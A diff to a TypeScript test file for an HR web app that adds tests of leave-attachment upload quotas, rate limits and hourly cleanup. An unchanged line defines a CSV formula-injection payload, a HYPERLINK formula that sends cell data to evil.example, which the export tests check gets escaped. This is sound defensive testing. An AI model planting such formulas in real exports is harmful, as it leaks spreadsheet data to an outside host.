@@ -6,9 +6,11 @@
  */
 import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
+import { Employee } from '../src/modules/employees/employee.entity';
+import { LeaveAttachmentsService } from '../src/modules/leave/leave-attachments.service';
 import { ScheduledReportsJob } from '../src/modules/reports/schedule/scheduled-reports.job';
 import { createTestApp, type TestApp } from './support/app';
-import { bearer, createCompany, type CompanyFixture } from './support/fixtures';
+import { bearer, createCompany, createUser, grant, login, type CompanyFixture } from './support/fixtures';
 
 const PAYLOAD = '=HYPERLINK("http://evil.example/?d="&C2,"John")';
 /** Names that start like a formula, one per kind of lead character. */
@@ -138,6 +140,90 @@ describe('files the product writes and receives', () => {
       expect(rows[1][1]).toBe(`'${PAYLOAD} Files`);
       expect(rows[1][2]).toBe(`'${DEPARTMENT}`);
       expect(rows[1][5]).toMatch(/^\d+\.\d{2}$/);
+    });
+  });
+
+  describe('leave attachments', () => {
+    const PDF = Buffer.from('%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n', 'latin1');
+    const MB = 1024 * 1024;
+    const upload = (headers: Record<string, string>, content: Buffer = PDF) =>
+      t.http().post('/api/hr/leave-requests/attachments').set(headers).attach('file', content, { filename: 'note.pdf', contentType: 'application/pdf' });
+    /** A new employee of the company who may request leave, signed in. */
+    const person = async () => {
+      const e = await sql(
+        `insert into employees (company_id, employee_code, first_name, last_name, email, position_id, department_id)
+         values (?, 'U' || floor(random() * 1e9)::text, 'Up', 'Loader', 'up' || floor(random() * 1e9)::text || '@test.example.com', ?, ?) returning id`,
+        [a.company.id, a.position.id, a.department.id],
+      );
+      const em = t.em();
+      const user = await createUser(em, 'employee', { company: a.company, employee: em.getReference(Employee, e[0].id) });
+      return { userId: user.id, headers: bearer(await login(t, user.email)) };
+    };
+
+    beforeAll(async () => {
+      await grant(t, { position: a.position }, a.company, 'leave', { can_view: true, can_create: true });
+    });
+
+    it('holds at most 5 files no request uses per person (413, in words), then frees them after 6 hours', async () => {
+      const me = await person();
+      const ids: number[] = [];
+      for (let i = 0; i < 5; i++) {
+        const up = await upload(me.headers);
+        expect(up.status).toBe(201);
+        ids.push(up.body.data.id);
+      }
+      const sixth = await upload(me.headers);
+      expect(sixth.status).toBe(413);
+      expect(sixth.body.message).toBe(
+        'You have 5 uploaded files that no leave request uses yet; use them in a request or wait, files not used within 6 hours are deleted',
+      );
+      expect(sixth.body.errors).toEqual([{ field: 'file', message: sixth.body.message }]);
+      const [{ n }] = await sql(`select count(*)::int as n from leave_attachments where uploaded_by_id = ?`, [me.userId]);
+      expect(n).toBe(5);
+
+      // one is used by a request, the others are left alone for 7 hours
+      const [type] = await sql(`insert into leave_types (company_id, type_name, type_code, max_days_per_year) values (?, 'Files', 'FI', 5) returning id`, [a.company.id]);
+      const [mine] = await sql(`select employee_id from users where id = ?`, [me.userId]);
+      await sql(
+        `insert into leave_requests (company_id, employee_id, leave_type_id, start_date, end_date, total_days, status, attachment_id) values (?, ?, ?, '2030-01-07', '2030-01-07', 1, 'pending', ?)`,
+        [a.company.id, mine.employee_id, type.id, ids[0]],
+      );
+      await sql(`update leave_attachments set created_at = now() - interval '7 hours' where id in (?, ?, ?, ?, ?)`, ids);
+      await t.app.get(LeaveAttachmentsService).hourly();
+      const left = await sql(`select id from leave_attachments where uploaded_by_id = ? order by id`, [me.userId]);
+      expect(left.map((r) => r.id)).toEqual([ids[0]]);
+      expect((await t.http().get(`/api/hr/leave-requests/attachments/${ids[1]}`).set(me.headers)).status).toBe(404);
+      expect((await upload(me.headers)).status).toBe(201);
+    });
+
+    it('holds at most 15 MB no request uses per person (413, in words)', async () => {
+      const me = await person();
+      const big = Buffer.concat([PDF, Buffer.alloc(5 * MB - PDF.length - 1024)]);
+      for (let i = 0; i < 3; i++) expect((await upload(me.headers, big)).status).toBe(201);
+      const fourth = await upload(me.headers, big);
+      expect(fourth.status).toBe(413);
+      expect(fourth.body.message).toBe(
+        'Your uploaded files that no leave request uses yet would exceed 15 MB; use them in a request or wait, files not used within 6 hours are deleted',
+      );
+      // a small one still fits
+      expect((await upload(me.headers)).status).toBe(201);
+    });
+
+    it('takes at most 20 uploads an hour per person (429, in words)', async () => {
+      const me = await person();
+      // 20 uploads in the last hour
+      for (let i = 0; i < 20; i++) {
+        await sql(`insert into leave_attachments (company_id, file_name, content_type, size_bytes, content, uploaded_by_id, created_at) values (?, 'x.pdf', 'application/pdf', 1, '\\x25', ?, now() - interval '30 minutes')`, [
+          a.company.id,
+          me.userId,
+        ]);
+      }
+      const res = await upload(me.headers);
+      expect(res.status).toBe(429);
+      expect(res.body.message).toBe('You can upload at most 20 files an hour; try again later');
+      // an hour later (and past the time unused files are kept) the person uploads again
+      await sql(`update leave_attachments set created_at = now() - interval '7 hours' where uploaded_by_id = ?`, [me.userId]);
+      expect((await upload(me.headers)).status).toBe(201);
     });
   });
 });
